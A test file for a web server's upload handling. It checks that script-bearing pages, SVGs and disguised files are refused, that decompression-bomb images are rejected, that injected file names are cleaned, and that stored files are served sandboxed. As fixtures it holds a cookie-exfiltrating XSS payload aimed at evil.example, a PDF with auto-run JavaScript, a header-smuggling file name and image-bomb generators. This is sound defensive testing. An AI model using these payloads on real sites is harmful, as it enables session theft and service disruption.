/** Files made to harm whoever opens them: what is taken in, and how it is sent back. */
import { createHash } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { pictureSize } from '../../../server/evidence/picture-size.ts'
import { createWorld, form, PNG, tokenOf, type World } from './harness.ts'

const upload = (world: World, id: string, content: Buffer, name = 'photo.png') => {
  const { payload, contentType } = form({ kind: 'photo' }, { name, type: 'image/png', content })
  return world.app.inject({
    method: 'POST',
    url: `/api/jobs/${id}/evidence`,
    headers: { authorization: `Bearer ${tokenOf('engineer')}`, 'content-type': contentType },
    payload,
  })
}
const read = (world: World, content: Buffer) =>
  world.as('engineer', 'GET', `/api/evidence/${createHash('sha256').update(content).digest('hex')}`)

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}
/** Of one colour: compressed to next to nothing. */
function pngOf(width: number, height: number, rows = height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.writeUInt8(1, 8)
  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * rows), { level: 9 })
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
const jpegOf = (width: number, height: number): Buffer => {
  const frame = Buffer.from('ffc00011080000000003012200021101031101', 'hex')
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  // A camera's notes come first, and hold what looks like a frame.
  const notes = Buffer.concat([
    Buffer.from('ffe1', 'hex'),
    Buffer.from([0x20, 0x02]),
    Buffer.alloc(0x2000, 0xc0),
  ])
  return Buffer.concat([
    Buffer.from('ffd8', 'hex'),
    notes,
    frame,
    Buffer.from('ffda', 'hex'),
    Buffer.alloc(40),
  ])
}
const webpOf = (width: number, height: number): Buffer => {
  const bytes = Buffer.alloc(40)
  bytes.write('RIFF', 0, 'latin1')
  bytes.writeUInt32LE(32, 4)
  bytes.write('WEBPVP8X', 8, 'latin1')
  bytes.writeUInt32LE(10, 16)
  bytes.writeUIntLE(width - 1, 24, 3)
  bytes.writeUIntLE(height - 1, 27, 3)
  return bytes
}

const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
const PDF = Buffer.from(
  `%PDF-1.4\n1 0 obj\n<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\nendobj\n${SCRIPT}\ntrailer\n<<>>\n%%EOF\n`,
)

describe('an upload', () => {
  const strangers: [string, Buffer][] = [
    ['a page', Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`)],
    [
      'a drawing with script',
      Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`),
    ],
    [
      'a drawing after an XML head',
      Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    ],
    ['a page that pretends to be a GIF', Buffer.from(`GIF89a/*${SCRIPT}*/=1`)],
    ['an archive', Buffer.from('504b0304140000000800', 'hex')],
    ['a program', Buffer.from('7f454c4602010100', 'hex')],
    ['the beginning of a picture and no more', PNG.subarray(0, 12)],
    ['a JPEG without a picture', Buffer.concat([Buffer.from('ffd8ffe00010', 'hex'), Buffer.from(SCRIPT)])],
  ]
  it('that is no picture and no paper is refused, whatever it is called', async () => {
    const world = await createWorld()
    const id = await world.errand()
    for (const [what, content] of strangers) {
      const answer = await upload(world, id, content)
      expect([what, answer.statusCode, answer.json().code]).toEqual([what, 415, 'media-type'])
      expect([what, (await read(world, content)).statusCode]).toEqual([what, 404])
    }
  })
  it('of a few kilobytes that opens to gigabytes is refused', async () => {
    const world = await createWorld()
    const id = await world.errand()
    for (const bomb of [
      pngOf(60_000, 60_000, 2000),
      pngOf(4_000_000_000, 1, 0),
      jpegOf(65_000, 65_000),
      webpOf(16_000_000, 9000),
    ]) {
      expect(bomb.length).toBeLessThan(200_000)
      const answer = await upload(world, id, bomb)
      expect([answer.statusCode, answer.json().code]).toEqual([413, 'too-large'])
      expect((await read(world, bomb)).statusCode).toBe(404)
    }
    for (const photo of [pngOf(800, 600), jpegOf(9000, 11_000), webpOf(4000, 3000)])
      expect((await upload(world, id, photo)).statusCode).toBe(200)
  })
  it('leaves nothing of its name: neither in the answer to it nor where it is read', async () => {
    const world = await createWorld()
    const name = 'photo\u202egnp.exe\u0007"; filename=evil.html'
    const answer = await upload(world, await world.errand(), PNG, name)
    expect(answer.statusCode).toBe(200)
    expect(answer.body).not.toMatch(/evil|\u202e|gnp/)
    const { headers } = await read(world, PNG)
    expect(headers['content-disposition']).toMatch(/^inline; filename="[0-9a-f]{16}\.png"$/)
  })
})

describe('what was taken in', () => {
  it.each([
    ['a picture with a page behind it', Buffer.concat([PNG, Buffer.from(SCRIPT)]), 'image/png', 'inline'],
    ['a paper with script and a page in it', PDF, 'application/pdf', 'attachment'],
  ])('as %s is sent as what it is, and nothing in it runs', async (_what, content, type, disposition) => {
    const world = await createWorld()
    expect((await upload(world, await world.errand(), content)).statusCode).toBe(200)
    const { headers } = await read(world, content)
    expect(headers).toMatchObject({
      'content-type': type,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cross-origin-resource-policy': 'same-origin',
    })
    expect(headers['content-disposition']).toMatch(new RegExp(`^${disposition}; `))
    expect(headers['cache-control']).toContain('private')
  })
})

describe('a process that goes out', () => {
  const forms = [
    ['handbook', 'inline', "default-src 'none'; style-src 'unsafe-inline'; img-src data:; sandbox"],
    ['svg', 'attachment', "default-src 'none'; sandbox"],
    ['scxml', 'attachment', "default-src 'none'; sandbox"],
  ] as const
  it('runs nothing, in whatever form', async () => {
    const picture = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"/>')
    const pictures = { draw: async () => picture, close: async () => undefined }
    const world = await createWorld({ deps: { pictures } })
    for (const [format, disposition, policy] of forms) {
      const url = `/api/processes/errand/versions/1/export?format=${format}`
      const { statusCode, headers } = await world.as('administrator', 'GET', url)
      expect([format, statusCode]).toEqual([format, 200])
      expect(headers['content-disposition']).toMatch(new RegExp(`^${disposition}; `))
      expect(headers['content-security-policy']).toBe(policy)
    }
  })
})

describe('the size of a picture', () => {
  it('is read from what it says of itself', () => {
    expect(pictureSize('image/png', pngOf(800, 600))).toEqual({ width: 800, height: 600 })
    expect(pictureSize('image/jpeg', jpegOf(4000, 3000))).toEqual({ width: 4000, height: 3000 })
    expect(pictureSize('image/webp', webpOf(5000, 2))).toEqual({ width: 5000, height: 2 })
    expect(pictureSize('image/heic', pngOf(1, 1))).toBeUndefined()
  })
  it.each(['image/png', 'image/jpeg', 'image/webp'])('is never read beyond the end of a %s', (type) => {
    const whole =
      { 'image/png': pngOf(8, 6), 'image/jpeg': jpegOf(8, 6), 'image/webp': webpOf(8, 6) }[type] ?? PNG
    for (let length = 0; length < whole.length; length++)
      expect(() => pictureSize(type, whole.subarray(0, length))).not.toThrow()
  })
})
